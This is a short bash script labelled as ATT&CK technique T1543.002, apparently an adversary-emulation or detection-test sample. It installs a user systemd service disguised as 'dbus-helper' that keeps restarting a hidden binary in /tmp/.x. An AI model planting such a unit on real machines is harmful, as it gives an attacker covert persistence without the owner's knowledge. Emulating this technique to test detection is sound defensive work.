#!/bin/bash
# T1543.002: A user's unit restarts a program from a public place.
mkdir -p /home/alice/.config/systemd/user/default.target.wants
printf '[Service]\nExecStart=/tmp/.x/agent\nRestart=always\n[Install]\nWantedBy=default.target\n' >/home/alice/.config/systemd/user/dbus-helper.service
ln -s ../dbus-helper.service /home/alice/.config/systemd/user/default.target.wants/dbus-helper.service
